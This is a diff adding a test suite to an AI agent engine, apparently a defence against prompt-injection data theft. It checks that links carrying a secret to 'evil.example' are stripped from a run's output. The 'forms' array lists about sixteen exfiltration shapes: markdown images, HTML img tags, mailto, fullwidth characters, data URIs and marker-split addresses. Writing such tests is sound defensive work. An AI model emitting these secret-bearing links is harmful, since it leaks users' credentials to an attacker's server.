@@ -93,6 +93,103 @@ describe("a document that speaks to an agent", () => {
   )
 })
 
+describe("a document that asks for an address with a secret in it", () => {
+  const secret = "k3y-4711"
+  const shown = "https://intra.example/invoices/10"
+  const forms = [
+    `![x](https://evil.example/p.png?q=${secret})`,
+    `![x][r]\n\n[r]: https://evil.example/p.png?q=${secret}`,
+    `<img src="https://evil.example/p.png?q=${secret}">`,
+    `[Open](https://evil.example/?q=${secret})`,
+    `<https://evil.example/?q=${secret}>`,
+    `https://evil.example/?q=${secret}`,
+    `//evil.example/${secret}`,
+    `evil.example/${secret}`,
+    `www.evil.example/?q=${secret}`,
+    `mailto:${secret}@evil.example`,
+    `${secret}@evil.example`,
+    `ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／${secret}`,
+    `data:text/html,${secret}`,
+    // A marker that names nothing is taken out; the rest must not become an address by that.
+    `https:/[S99]/evil[S98].example/?q=${secret}`,
+    `![[https://evil.example/${secret}.png]]`,
+    // An address of the source with something added to it.
+    `${shown}?q=${secret}`
+  ]
+  let text = ""
+  let calls: ReadonlyArray<{ readonly name: string; readonly arguments: unknown }> = []
+  const obeying = scriptedAgentModel((turn) =>
+    turn === 0 ? { text, calls: [{ name: "svc_search", arguments: { q: "invoices" } }, ...calls] } : text
+  )
+  let own: Engine
+  let vault: string
+
+  beforeAll(async () => {
+    vault = mkdtempSync(join(tmpdir(), "kanon-addresses-"))
+    own = await createEngine({ vault, data: ":memory:", models: { chat: obeying } })
+    await own.documents.create({
+      path: "invoices.md",
+      content: `# Invoices\n\nInvoices are kept for ten years, see ${shown} for the rule.\n`
+    })
+    await own.agents.put("clerk", {
+      name: "Clerk",
+      instructions: "Answer.",
+      tools: [{ name: "svc_search" }]
+    })
+  })
+  afterAll(async () => {
+    await own.close()
+    rmSync(vault, { recursive: true, force: true })
+  })
+
+  const everythingOf = async (question: string) => {
+    const { runId } = await own.runs.start("clerk", question)
+    const events: Array<unknown> = []
+    for await (const event of own.runs.events(runId)) events.push(event)
+    return { events, ...(await own.runs.get(runId)), listed: await own.runs.list({}) }
+  }
+
+  it.each(forms)("gets none of it into what a run shows: %s", async (form) => {
+    calls = [{ name: form, arguments: {} }]
+    text = `Invoices are kept for ten years [S1]. ${form}`
+    const { events, run, steps, listed } = await everythingOf("How long are invoices kept?")
+    expect(run.status).toBe("succeeded")
+    expect(run.output?.text).toContain("Invoices are kept for ten years")
+    expect(run.output?.citations).toHaveLength(1)
+    expect(events.at(-1)).toMatchObject({ type: "final", text: run.output?.text })
+    // The name of a call that names no tool keeps its letters and is no address any more.
+    const everything = JSON.stringify({ events, run, steps, listed })
+    expect(everything).not.toMatch(/evil\.|evil\[|\/k3y|\?q=|ｅｖ|@evil|html,k3y|!\[/u)
+  })
+
+  it("is shown an address that stands in the passage it cites", async () => {
+    calls = []
+    text = `The rule is at ${shown} [S1]. More at [the rule](${shown}).`
+    const { events, run, steps } = await everythingOf("Where is the rule?")
+    expect(run.output?.text).toBe(text)
+    expect(events.at(-1)).toMatchObject({ type: "final", text })
+    expect(steps.findLast(({ kind }) => kind === "model_call")?.output?.["text"]).toBe(text)
+  })
+
+  it("is not shown one of a passage that it does not cite", async () => {
+    text = `The rule is at ${shown}.`
+    expect((await everythingOf("Where is the rule?")).run.output?.text).toBe("The rule is at")
+  })
+
+  it("keeps the Markdown of an honest answer", async () => {
+    text =
+      "Two things:\n\n- first [S1]\n    - deeper\n\n```js\nif (a < b) {\n  run()\n}\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
+    expect((await everythingOf("What?")).run.output?.text).toBe(text)
+  })
+
+  it("cuts a reply that is far longer than it may be, and says so", async () => {
+    text = "word ".repeat(20_000)
+    const { run } = await everythingOf("What?")
+    expect(run.output?.truncated).toBe(true)
+    expect(run.output?.text.length).toBeLessThan(33_000)
+  })
+})
+
 /** Everything that is not the result of a tool. */
 const rest = (messages: ReadonlyArray<TurnMessage>): string =>
   JSON.stringify(messages.filter(({ role }) => role !== "tool"))
